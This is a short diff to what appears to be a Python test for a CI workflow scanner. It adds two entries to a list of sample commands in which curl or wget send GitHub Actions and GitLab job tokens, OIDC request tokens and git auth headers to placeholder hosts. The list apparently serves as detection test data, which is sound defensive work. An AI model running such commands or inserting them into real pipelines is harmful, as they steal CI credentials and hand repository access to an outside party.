@@ -84,6 +84,8 @@ def test_workflow_expressions_are_pasted_in() -> None:
     'curl -sH "Authorization: Bearer $ACTIONS_RUNTIME_TOKEN" "$ACTIONS_CACHE_URL_x" https://h.example/c',
     'wget -q --post-data "t=$ACTIONS_ID_TOKEN_REQUEST_TOKEN&u=$ACTIONS_ID_TOKEN_REQUEST_URL" https://203.0.113.9/i',
     'curl -d "t=$CI_JOB_TOKEN" https://203.0.113.5/x',
+    'curl -sO "https://h.example/t?k=$ACTIONS_RUNTIME_TOKEN"',
+    'wget -c -q "https://h.example/t?k=$CI_JOB_TOKEN"',
     "auth=$(git config --local --get-regexp 'extraheader' | cut -d' ' -f2-)\n"
     'curl -s "https://203.0.113.9/c?a=$auth"',
     'curl -s -d "h=$(git config --get http.https://github.com/.extraheader)" https://h.example/x',
